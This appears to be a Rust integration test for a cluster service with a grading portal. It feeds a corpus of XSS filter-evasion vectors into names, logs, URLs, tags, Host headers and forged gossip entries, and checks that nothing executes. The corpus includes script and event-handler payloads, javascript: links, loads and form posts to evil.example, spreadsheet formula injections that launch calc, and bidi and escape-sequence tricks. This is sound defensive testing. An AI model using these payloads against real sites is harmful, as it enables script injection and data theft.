//! Hostile text (markup, scripts, hidden characters) at every place where a stranger can put it: nothing
//! runs, nothing opens, no other host is contacted, and the text stays readable.
//!
//! Vectors from OWASP's XSS Filter Evasion Cheat Sheet and Cure53's HTML5 Security Cheatsheet. If one runs,
//! it sets a mark of its own (`window.xss`) or opens a dialog.

use std::{
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpStream},
};

use hearsay_protocol::{Entry, Fact, Header, Health, Identity, Incarnation, Instance, Key, Version};
use hearsay_tests::Intruder;

use super::*;

/// Texts, and their display where that differs.
pub(super) const CORPUS: &[(&str, &str)] = &[
    ("<script>window.xss=1</script>", ""),
    ("</script><script>window.xss=1</script>", ""),
    ("</title><script>alert(1)</script>", ""),
    ("</textarea><script>alert(1)</script>", ""),
    ("</template></noscript></style><script>alert(1)</script>", ""),
    ("<scr<script>ipt>window.xss=1</scr</script>ipt>", ""),
    ("<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", ""),
    ("<img src=x onerror=window.xss=1>", ""),
    ("<img src=http://evil.example/x.png>", ""),
    ("<svg/onload=window.xss=1>", ""),
    ("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", ""),
    ("<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>", ""),
    ("<body onload=window.xss=1>", ""),
    ("<iframe srcdoc=\"<script>parent.xss=1</script>\"></iframe>", ""),
    ("<iframe src=\"javascript:alert(1)\"></iframe>", ""),
    ("<object data=\"data:text/html,<script>alert(1)</script>\"></object>", ""),
    ("<a href=\"javascript:window.xss=1\" autofocus onfocus=window.xss=1>click</a>", ""),
    ("javascript:window.xss=1", ""),
    ("jAvAsCrIpT://%0aalert(1)", ""),
    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ""),
    ("\"><script>window.xss=1</script>", ""),
    ("' autofocus onfocus='window.xss=1", ""),
    ("\" autofocus onfocus=\"window.xss=1", ""),
    ("` onmouseover=`window.xss=1", ""),
    ("x\" style=\"background:url(http://evil.example/css)", ""),
    ("<style>@import 'http://evil.example/x.css';*{display:none}</style>", ""),
    ("<link rel=stylesheet href=http://evil.example/x.css>", ""),
    ("<meta http-equiv=refresh content=\"0;url=http://evil.example/\">", ""),
    ("<base href=http://evil.example/>", ""),
    ("<form action=http://evil.example/><button autofocus>Add grade", ""),
    ("<details open ontoggle=window.xss=1>", ""),
    (
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)>\">",
        "",
    ),
    ("<!--<img src=\"--><img src=x onerror=window.xss=1//\">", ""),
    ("<![CDATA[<script>alert(1)</script>]]>", ""),
    ("&lt;script&gt;window.xss=1&lt;/script&gt; &#60;b&#62; &amp;amp;", ""),
    ("{{constructor.constructor('window.xss=1')()}} {% raw %} ${window.xss=1} #{7*7} <%= 7*7 %>", ""),
    ("+ADw-script+AD4-window.xss=1+ADw-/script+AD4-", ""),
    ("%3Cscript%3Ewindow.xss=1%3C/script%3E", ""),
    ("\\x3cscript\\x3ewindow.xss=1\\u003c/script\\u003e", ""),
    ("＜script＞window.xss=1＜/script＞", ""),
    ("=HYPERLINK(\"http://evil.example/\",\"x\")", ""),
    ("@SUM(1+1)*cmd|' /C calc'!A0", ""),
    ("-2+3+cmd|' /C calc'!A0", ""),
    ("a\u{202e}tpircs\u{202c} \u{2066}b\u{2069}", "a\\u202etpircs\\u202c \\u2066b\\u2069"),
    ("zero\u{200b}width\u{feff}", "zero\\u200bwidth\\ufeff"),
    ("a\u{1b}[31mred\u{1b}]0;title\u{7}", "a\\u001b[31mred\\u001b]0;title\\u0007"),
    ("nul\u{0}<script\u{0}>window.xss=1</script>", "nul\\u0000<script\\u0000>window.xss=1</script>"),
    ("c1\u{9b}31m", "c1\\u009b31m"),
    ("combining Z\u{351}\u{36b}\u{343}\u{36a}\u{302} and 👩\u{200d}🚀", ""),
];

/// Returns the text as a reader sees it.
pub(super) fn shown((text, shown): &(&'static str, &'static str)) -> &'static str {
    if shown.is_empty() { text } else { shown }
}

/// Checks that nothing ran, nothing became markup, and all links lead to the right place.
pub(super) fn calm(browser: &mut Browser, what: &str) {
    const FOREIGN: &str = "main :is(script, iframe, object, embed, img, style, link, base, math, [onload], [onerror], [onfocus], \
                           [style], [srcdoc], [autofocus])";
    let page = browser.js(&format!(
        "[window.xss === undefined, document.querySelectorAll('{FOREIGN}').length, \
         [...document.querySelectorAll('a[href]')].filter(a => !/^https?:$/.test(a.protocol)).length, \
         [...document.forms].filter(f => new URL(f.action).origin !== location.origin).length, \
         location.origin]"
    ));
    assert_eq!(page, json!([true, 0, 0, 0, HERE]), "{what}");
}

fn encoded(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02x}")).collect()
}

/// Returns tags: the only option of a node that may hold markup; names, zones and clusters may not.
const TAGS: [&str; 3] = [
    "\"><img src=x onerror=window.xss=1>",
    "</script><svg/onload=alert(1)>",
    "'`<a href=javascript:window.xss=1>\u{202e}x",
];

/// A member that consists of such texts: its software, its address, and an instance for each text as id,
/// address, link and tag.
fn invented(seed: [u8; 32], texts: &[&str]) -> Vec<Entry> {
    let identity = Identity::from_seed(&seed);
    let sign = |version: usize, key, value| {
        let fact = Fact {
            node: identity.id(),
            incarnation: Incarnation(1),
            version: Version(version as u64),
            key,
            value: Some(value),
        };
        fact.sign(&identity, "default").expect("it is within bounds")
    };
    let header = Header {
        name: "invented".into(),
        addresses: vec!["/ip4/10.77.200.1/tcp/1".into()],
        http: Some(texts[0].into()),
        software: texts[1].into(),
        ..Header::default()
    };
    let mut entries = vec![sign(1, Key::Header, header.encode())];
    for (i, text) in texts.iter().enumerate() {
        let instance = Instance {
            service: "evil".into(),
            address: (*text).into(),
            port: 1,
            url: (*text).into(),
            tags: vec![(*text).into()],
            meta: [("x".to_owned(), (*text).to_owned())].into(),
            health: Health::Passing,
            since_ms: 0,
            ..Instance::default()
        };
        entries.push(sign(i + 2, Key::Instance((*text).into()), instance.encode()));
    }
    entries
}

#[test]
#[allow(clippy::too_many_lines, reason = "one scenario, step by step")]
fn hostile_text_is_text_wherever_it_comes_from() {
    scenario("hostile::hostile_text_is_text_wherever_it_comes_from", |lab| {
        if !Browser::is_there() {
            return;
        }
        let [a, b, c] = TAGS;
        let nodes = start(
            lab,
            &[
                ("portal", "portal", &["--tag", a]),
                ("keeper", "grading,log", &["--tag", b, "--tag", c]),
                ("another", "grading,visits", &["--tag", "javascript:alert(1)"]),
            ],
        );
        let mut browser = browser(lab);
        browser.go(&format!("{HERE}/portal/log"));
        browser.until(5 * S, "it is live", "document.getElementById('live').dataset.state === 'live'");

        // Everywhere at once: names, titles, messages, services.
        let mut students = Vec::new();
        for pair in CORPUS {
            let text = pair.0;
            let reply = post(lab, nodes[1], "/students", &json!({ "firstName": text, "lastName": text }));
            if reply.status == 201 {
                let id = reply.json()["id"].to_string();
                let grade = json!({ "title": text, "type": "Quiz", "score": 50 });
                let graded = post(lab, nodes[1], &format!("/students/{id}/grades"), &grade);
                assert_eq!(graded.status, 201, "{text:?}: {}", graded.body);
                students.push((id, shown(pair)));
            } else {
                assert_eq!(reply.status, 400, "{text:?}: {}", reply.body);
                assert_ne!(shown(pair), text, "only what hides is refused: {}", reply.body);
            }
            let said =
                post(lab, nodes[1], "/log", &json!({ "message": text, "service": text, "level": "warn" }));
            if said.status >= 300 {
                assert_eq!(said.status, 400, "{text:?}: {}", said.body);
                record(lab, nodes[1], "web", "warn", text);
            }
            assert_eq!(post(lab, nodes[1], "/log", &json!({ "message": "m", "level": text })).status, 400);
        }
        println!("{} of {} are names in the book", students.len(), CORPUS.len());
        assert!(students.len() >= 40);
        let overlong = "<b onclick=alert(1)>".repeat(500);
        assert_eq!(
            post(lab, nodes[1], "/students", &json!({ "firstName": overlong, "lastName": "x" })).status,
            400
        );
        record(lab, nodes[1], "web", "error", &overlong);

        // Live records are text, and so are loaded ones.
        let messages = "[...document.querySelectorAll('.log .message')].map(m => m.textContent)";
        let mut all: Vec<&str> = CORPUS.iter().map(shown).collect();
        all.push(&overlong);
        let all_shown = format!("{}.every(text => {messages}.includes(text))", json!(all));
        browser.until(10 * S, "all that came live is shown as it is", &all_shown);
        calm(&mut browser, "the live log");
        browser.go(&format!("{HERE}/portal/log"));
        assert_eq!(browser.js(&all_shown), true);
        calm(&mut browser, "the log");

        browser.go(&format!("{HERE}/portal"));
        calm(&mut browser, "the book");
        for (id, text) in &students {
            let row = format!("document.querySelector('a[href=\"/portal/students/{id}\"]')?.textContent");
            let name = browser.js(&row);
            assert!(name.is_null() || name == format!("{text} {text}"), "{name}");
        }
        for (id, text) in &students {
            browser.go(&format!("{HERE}/portal/students/{id}"));
            let seen = browser.js(
                "[document.querySelector('h1').textContent, document.querySelector('.grades .name').textContent, \
                 document.querySelector('.chart .bar title').textContent, \
                 document.querySelector('.grades button').getAttribute('aria-label')]",
            );
            let name = format!("{text} {text}");
            assert_eq!(seen, json!([name, text, format!("1. {text}: 50"), format!("Remove {text}")]));
            calm(&mut browser, text);
        }

        // Typed text comes back with the reason.
        for (text, _) in CORPUS.iter().filter(|pair| pair.1.is_empty()).step_by(6) {
            browser.go(&format!("{HERE}/portal/students/1"));
            browser.fill("Title", text);
            browser.fill("Score 0 to 100", "\"><svg/onload=xss=1>");
            browser.click("button", "Add grade");
            browser.until(
                5 * S,
                "it is refused",
                "document.querySelector('[aria-invalid]')?.name === 'score'",
            );
            assert_eq!(browser.js("document.querySelector('[name=title]').value"), *text);
            calm(&mut browser, text);
        }

        // Text in addresses.
        for (text, _) in CORPUS {
            let v = encoded(text);
            for path in [
                format!("/portal?q={v}&sort={v}&dir={v}&page={v}"),
                format!("/portal/students/{v}?x={v}"),
                format!("/portal/log?q={v}&service={v}&level={v}"),
                format!("/portal/log?before={v}"),
                format!("/portal/log?after={v}&at={v}&from={v}"),
                format!("/ui?x={v}#{v}"),
                format!("/why/{v}"),
                format!("/services/{v}"),
                format!("/{v}"),
            ] {
                browser.try_to_go(&format!("{HERE}{path}"));
                calm(&mut browser, &format!("{text:?} in {path}"));
            }
        }
        for path in ["/services", "/members", "/why/grading", "/metrics", "/openapi.json"] {
            browser.try_to_go(&format!("{HERE}{path}"));
            calm(&mut browser, path);
        }

        // The cluster page, while a member with hostile texts is invented, and after.
        browser.go(&format!("{HERE}/ui"));
        browser.until(5 * S, "it is live", "document.getElementById('live').textContent === 'Live'");
        let tags = browser.js("[...document.querySelectorAll('.tags li')].map(n => n.textContent)");
        for tag in TAGS {
            let tag = json!(tag.replace('\u{202e}', "\\u202e"));
            assert!(tags.as_array().is_some_and(|all| all.contains(&tag)), "{tag} in {tags}");
        }
        calm(&mut browser, "the cluster page");
        let texts: Vec<&str> =
            CORPUS.iter().map(|pair| pair.0).filter(|t| !t.contains(char::is_control)).collect();
        let to = SocketAddr::from(([127, 0, 0, 1], 7600));
        let mut intruder = Intruder::connect([66; 32], "default", to).expect("an open cluster lets it in");
        for entries in invented([66; 32], &texts).chunks(8) {
            intruder.gossip_entries(entries.to_vec());
        }
        let link = "[...document.querySelectorAll('#services td')].some(cell => cell.textContent === 'javascript:window.xss=1')";
        browser.until(5 * S, "what it offers is shown, and is no link", link);
        calm(&mut browser, "the cluster page with an invented member");
        let told =
            "[...document.querySelectorAll('.timeline [data-text]')].some(e => e.textContent.includes('<'))";
        assert_eq!(browser.js(told), true);
        lab.until(10 * S, "no node is found", |lab| {
            lab.sees(nodes[0], "invented").as_deref() != Some("alive")
        });
        browser.until(5 * S, "its death is told", "document.getElementById('news').textContent !== ''");
        for path in ["/ui", "/services", "/members", "/why/evil", "/why/invented"] {
            browser.try_to_go(&format!("{HERE}{path}"));
            calm(&mut browser, path);
        }
        drop(intruder);
        nothing_strange(&mut browser);

        // A browser does not send such a Host, but a proxy before the node may pass it on.
        for (text, _) in CORPUS.iter().filter(|(text, _)| !text.contains(char::is_control)) {
            for path in ["/ui", "/portal", "/portal/log", "/"] {
                let mut stream = TcpStream::connect(lab.address(nodes[0])).expect("a node");
                stream.set_read_timeout(Some(5 * S)).expect("a timeout");
                write!(stream, "GET {path} HTTP/1.1\r\nHost: {text}\r\nConnection: close\r\n\r\n")
                    .expect("a write");
                let mut answer = Vec::new();
                // A refusal may reset the connection.
                _ = stream.read_to_end(&mut answer);
                let answer = String::from_utf8_lossy(&answer);
                assert!(answer.starts_with("HTTP/1.1 4"), "{text:?}: {answer}");
                assert!(!answer.contains("text/html"), "{text:?}: {answer}");
            }
        }
    });
}
